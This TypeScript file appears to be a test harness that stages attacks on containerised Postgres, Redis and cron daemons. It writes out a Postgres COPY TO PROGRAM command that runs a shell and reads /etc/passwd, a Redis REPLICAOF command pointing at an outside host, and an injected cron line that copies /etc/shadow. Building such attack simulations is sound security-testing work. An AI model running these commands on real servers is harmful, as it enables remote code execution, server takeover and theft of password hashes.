import { appendFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Daemon } from '../daemon.ts';
import { cron } from '../daemons/cron.ts';
import { postgres } from '../daemons/postgres.ts';
import { redis } from '../daemons/redis.ts';
import type { Pod } from '../pod.ts';

interface Scene {
  readonly daemon: Daemon;
  readonly act: (pod: Pod) => Promise<void>;
}

/** What each of these programs can be made to do by whoever may talk to it, in the very images of the corpus. */
export const onDaemons: Readonly<Record<string, Scene>> = {
  'postgres-program': { daemon: postgres, act: shellOfSql },
  'redis-replica': { daemon: redis, act: replica },
  'cron-script': { daemon: cron, act: overwrittenJob },
};

/** Superusers of SQL have a shell (the usual way into crypto mining). */
async function shellOfSql(pod: Pod): Promise<void> {
  await pod.start();
  await sleep(2500);
  const statement = "COPY (SELECT 'id; cat /etc/passwd') TO PROGRAM 'cat > /tmp/.x; sh /tmp/.x'";
  pod.network.run(
    ['psql', '-h', pod.environment.address, '-U', 'postgres', '-Atq', '-d', 'shop', '-f', '-'],
    statement,
  );
  await pod.stop('SIGKILL');
}

/** The first step of every takeover by replication. */
async function replica(pod: Pod): Promise<void> {
  await pod.start();
  await sleep(2500);
  pod.talk(6379, 'REPLICAOF 203.0.113.7 6379\r\nQUIT\r\n');
  await sleep(2500);
  await pod.stop('SIGKILL');
}

/** A job that runs anyway, with one line more. */
async function overwrittenJob(pod: Pod): Promise<void> {
  await pod.start();
  await sleep(2500);
  appendFileSync(pod.file('/usr/local/bin/backup'), '\ncp /etc/shadow /backup/.s\n');
  await sleep(60_000 - (Date.now() % 60_000) + 4000);
  await pod.stop('SIGKILL');
}
